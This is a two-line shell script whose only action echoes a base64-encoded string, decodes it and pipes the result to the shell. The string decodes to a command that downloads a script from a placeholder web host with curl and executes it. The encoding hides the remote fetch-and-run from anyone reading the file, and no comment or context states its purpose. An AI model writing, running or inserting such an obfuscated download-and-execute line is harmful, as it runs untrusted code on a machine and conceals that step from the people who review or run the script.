#!/bin/sh
echo Y3VybCBleGFtcGxlLm9yZyB8IHNo | base64 -d | sh
